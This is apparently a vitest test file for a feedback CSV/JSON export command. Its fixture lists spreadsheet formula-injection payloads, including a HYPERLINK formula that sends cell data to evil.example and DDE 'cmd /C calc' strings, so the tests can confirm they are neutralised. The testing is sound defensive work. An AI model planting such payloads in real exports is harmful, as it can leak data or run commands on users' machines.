// feedback:export on both databases: CSV read back by a CSV parser (formula cells neutralised,
// quotes, commas and line breaks intact), JSON, --since, retention, and clear usage errors.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { describeEachDatabase, freshTarget } from '../../test/helpers/store.js';
import { main } from '../main.js';
import { openMigratedStore, saveFeedback, type FeedbackResponse, type StoreTarget } from '../store/index.js';
import { runFeedbackExport } from './feedback-export.js';

const DAY = 86_400_000;
const NOW = Date.UTC(2026, 5, 1, 12, 0);

/** Cells a spreadsheet would run as formulas, and text a naive writer would break. */
const HOSTILE: Array<[string, string]> = [
  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
  ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
  ['-2+3', `'-2+3`],
  ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
  ['\t=1+2', `'\t=1+2`],
  ['\r=1+2', `'\r=1+2`],
  ['Plain words, with "quotes", commas\nand a line break', 'Plain words, with "quotes", commas\nand a line break'],
  ['café ✓ 診療', 'café ✓ 診療'],
];

function response(comment: string, overrides: Partial<FeedbackResponse> = {}): FeedbackResponse {
  return { usefulness: 3, cameFor: 'news', cameForOther: null, found: 'yes', comment, email: null, ...overrides };
}

interface Captured {
  code: number;
  stdout: string;
  stderr: string;
}

describeEachDatabase('feedback:export', (kind) => {
  let target: StoreTarget;
  let cleanUp: () => Promise<void>;
  beforeEach(async () => {
    ({ target, cleanUp } = await freshTarget(kind));
    const store = await openMigratedStore(target);
    try {
      for (const [i, [comment]] of HOSTILE.entries()) await saveFeedback(store.db, response(comment), { now: NOW - (HOSTILE.length - i) * 60_000, keepSince: 0 });
      await saveFeedback(store.db, response('=other', { cameFor: 'other', cameForOther: '=1+1', email: 'a@example.org', usefulness: 5 }), { now: NOW, keepSince: 0 });
      await saveFeedback(store.db, response('three days ago'), { now: NOW - 3 * DAY, keepSince: 0 });
      await saveFeedback(store.db, response('past the retention'), { now: NOW - 400 * DAY, keepSince: 0 });
    } finally {
      await store.close();
    }
  });
  afterEach(async () => {
    await cleanUp();
  });

  async function run(args: string[]): Promise<Captured> {
    const out = { stdout: '', stderr: '' };
    const code = await runFeedbackExport(args, {
      store: target,
      retentionDays: 365,
      now: () => NOW,
      stdout: (text) => void (out.stdout += text),
      stderr: (text) => void (out.stderr += text),
    });
    return { code, ...out };
  }

  it('prints RFC 4180 CSV that a CSV parser reads back, with formula cells neutralised', async () => {
    const result = await run([]);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    expect(result.stdout.startsWith('id,received_at,usefulness,came_for,came_for_other,found,comment,email\r\n')).toBe(true);
    const records = parse(result.stdout, { columns: true, relax_quotes: false, relax_column_count: false }) as Record<string, string>[];
    // Oldest first; the response past the retention is gone.
    expect(records.map((r) => r.comment)).toEqual(['three days ago', ...HOSTILE.map(([, shown]) => shown), "'=other"]);
    expect(records.at(-1)).toEqual({
      id: expect.stringMatching(/^\d+$/),
      received_at: '2026-06-01T12:00:00.000Z',
      usefulness: '5',
      came_for: 'other',
      came_for_other: "'=1+1",
      found: 'yes',
      comment: "'=other",
      email: 'a@example.org',
    });
    for (const record of records) expect(Object.values(record).every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
  });

  it('prints JSON with the text as stored, and --since keeps the responses from that day on', async () => {
    const all = await run(['--format', 'json']);
    expect(all.code).toBe(0);
    const parsed = JSON.parse(all.stdout) as Array<Record<string, unknown>>;
    expect(parsed).toHaveLength(HOSTILE.length + 2);
    expect(parsed.at(-1)).toMatchObject({ comment: '=other', came_for_other: '=1+1', usefulness: 5, received_at: '2026-06-01T12:00:00.000Z' });
    const recent = await run(['--format', 'json', '--since', '2026-06-01']);
    expect((JSON.parse(recent.stdout) as unknown[]).length).toBe(HOSTILE.length + 1);
    const csv = await run(['--since', '2026-07-01']);
    expect(csv.stdout).toBe('id,received_at,usefulness,came_for,came_for_other,found,comment,email\r\n');
  });
});

describe('feedback:export arguments', () => {
  const target: StoreTarget = { kind: 'sqlite', path: ':memory:' };
  async function run(args: string[]): Promise<Captured> {
    const out = { stdout: '', stderr: '' };
    const code = await runFeedbackExport(args, { store: target, retentionDays: 365, now: () => NOW, stdout: (t) => void (out.stdout += t), stderr: (t) => void (out.stderr += t) });
    return { code, ...out };
  }

  it.each([
    [['--format', 'xml'], '--format "xml": expected csv or json'],
    [['--since', '1/2/2026'], '--since "1/2/2026": expected a day as YYYY-MM-DD'],
    [['--since', '2026-02-30'], '--since 2026-02-30: there is no such day'],
    [['--color'], "Unknown option '--color'"],
    [['extra'], 'unexpected "extra"'],
  ])('refuses %j with exit 2, a clear message and the usage line, nothing on standard output', async (args, message) => {
    const result = await run(args);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(`feedback:export: ${message}`);
    expect(result.stderr).toContain('usage: npm run feedback:export');
  });

  it('is the command main runs for `feedback:export`, on DATABASE_PATH', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'feedback-export-main-'));
    try {
      const out = { stdout: '', stderr: '' };
      const io = { env: { DATABASE_PATH: join(dir, 'portal.db') }, isTTY: false, stdout: (t: string) => void (out.stdout += t), stderr: (t: string) => void (out.stderr += t) };
      expect(await main(['feedback:export', '--format', 'json'], io)).toBe(0);
      expect(out).toEqual({ stdout: '[]\n', stderr: '' });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
